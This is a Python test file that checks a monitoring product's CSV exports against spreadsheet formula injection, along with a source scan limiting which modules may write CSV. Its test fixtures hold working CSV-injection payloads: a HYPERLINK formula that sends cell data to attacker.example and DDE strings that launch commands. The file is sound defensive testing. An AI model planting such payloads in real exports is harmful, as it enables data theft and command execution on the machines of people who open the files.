"""Spreadsheet formulas in data never reach an export as formulas (OWASP "CSV Injection").

Every export the product offers is checked with formula payloads in every free-text field: the CLI complaint
export, the analysts' CSV download on the dashboard and ``envmon aqi compute``; a source scan keeps every other
module from writing CSV on its own.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
import ui_server as ui  # tests/hardening/_server.py, registered by conftest.py
from sqlalchemy import Engine, update

from cli import main
from data.exports import FORMULA_START, csv_text, neutralise

REPO = Path(__file__).resolve().parents[2]
clean_caches = ui.clean_caches
FORMULAS = (
    '=HYPERLINK("http://attacker.example/?x="&A1,"bấm")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


def formula_cells(text: str) -> list[str]:
    """Cells of CSV ``text`` that a spreadsheet would evaluate (numbers such as ``-1.5`` are not formulas)."""
    found = []
    for row in csv.reader(io.StringIO(text.removeprefix("\ufeff"))):
        for cell in row:
            if cell.startswith(FORMULA_START) and not re.fullmatch(r"-?\d+(\.\d+)?", cell):
                found.append(cell)
    return found


@pytest.mark.parametrize("dtype", [object, "str", "string", "category"])
def test_every_text_dtype_is_neutralised_and_numbers_are_not(dtype: Any) -> None:
    frame = pd.DataFrame({"text": pd.Series([*FORMULAS, None], dtype=dtype), "number": [-1.5] * 6 + [None]})
    out = neutralise(frame)
    assert out["text"].iloc[:6].tolist() == ["'" + formula for formula in FORMULAS]
    text = csv_text(frame)
    assert formula_cells(text) == []
    assert "-1.5" in text and "nan" not in text.lower()


@pytest.fixture(scope="module")
def db(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, Engine]]:
    """The dashboard seed with a formula in every free-text field of complaints, units and wards."""
    from data.schema import ComplaintCase, ComplaintReport, ResponsibleUnit

    url, engine = ui.seeded_database(tmp_path_factory.mktemp("formulas"), hostile=False)
    with engine.begin() as conn:
        for case_id, formula in enumerate(FORMULAS, start=1):
            conn.execute(
                update(ComplaintCase).where(ComplaintCase.id == case_id).values(title=formula, ward_name=formula)
            )
            conn.execute(
                update(ComplaintReport)
                .where(ComplaintReport.case_id == case_id)
                .values(
                    description=formula,
                    address=formula,
                    category_raw=formula,
                    channel=formula,
                    reporter_name=formula,
                    reporter_phone=formula,
                )
            )
        conn.execute(update(ResponsibleUnit).values(name=FORMULAS[0]))
    yield url, engine
    engine.dispose()


@pytest.mark.parametrize("personal", [False, True])
def test_cli_complaint_export_neutralises_formulas(
    db: tuple[str, Engine], personal: bool, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("DATABASE_URL", db[0])
    assert main(["complaints", "export", *(["--include-personal"] if personal else [])]) == 0
    text = capsys.readouterr().out
    assert "'=HYPERLINK(" in text and "'-2+3+cmd" in text  # the payloads are exported, as text
    assert formula_cells(text) == []


def test_dashboard_export_neutralises_formulas(
    db: tuple[str, Engine], monkeypatch: pytest.MonkeyPatch, clean_caches: None
) -> None:
    monkeypatch.setenv("DATABASE_URL", db[0])
    monkeypatch.delenv("ENVMON_TILE_URL", raising=False)
    downloads = ui.Downloads(monkeypatch)
    at = ui.run_page("analysis", user="ana")
    at.toggle[0].set_value(True).run()
    assert not at.exception
    offered = {label: data.decode("utf-8-sig") for label, data in downloads.offered if "CSV" in label}
    assert len(offered) == 1
    text = next(iter(offered.values()))
    assert "'=HYPERLINK(" in text
    assert formula_cells(text) == []


def test_aqi_compute_neutralises_a_formula_station_id(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    source = tmp_path / "hourly.csv"
    rows = [f'"{FORMULAS[1]}",pm25,2025-03-01T{hour:02d}:00:00+07:00,35' for hour in range(1, 13)]
    source.write_text("station_id,parameter,observed_at,value\n" + "\n".join(rows) + "\n", encoding="utf-8")
    assert main(["aqi", "compute", str(source)]) == 0
    text = capsys.readouterr().out
    assert "'+cmd" in text
    assert formula_cells(text) == []


CSV_WRITERS = re.compile(r"\.to_csv\(|\.to_excel\(|csv\.writer\(|csv\.DictWriter\(|write_csv\(|Workbook\(")
ALLOWED_WRITERS = {
    "data/exports.py",  # the one place that writes CSV for people
    "data/copy_in.py",  # PostgreSQL COPY payload: goes to the database, never to a person
    "data/scorecard_export.py",  # the monthly scorecard XLSX: every cell goes through data.exports.safe_cell
}


def test_no_module_writes_csv_outside_data_exports() -> None:
    writers = []
    for package in ("geo", "data", "monitoring", "dashboard", "cli", "api", "publish"):
        for path in sorted((REPO / package).rglob("*.py")):
            relative = path.relative_to(REPO).as_posix()
            if relative not in ALLOWED_WRITERS and CSV_WRITERS.search(path.read_text(encoding="utf-8")):
                writers.append(relative)
    assert writers == []
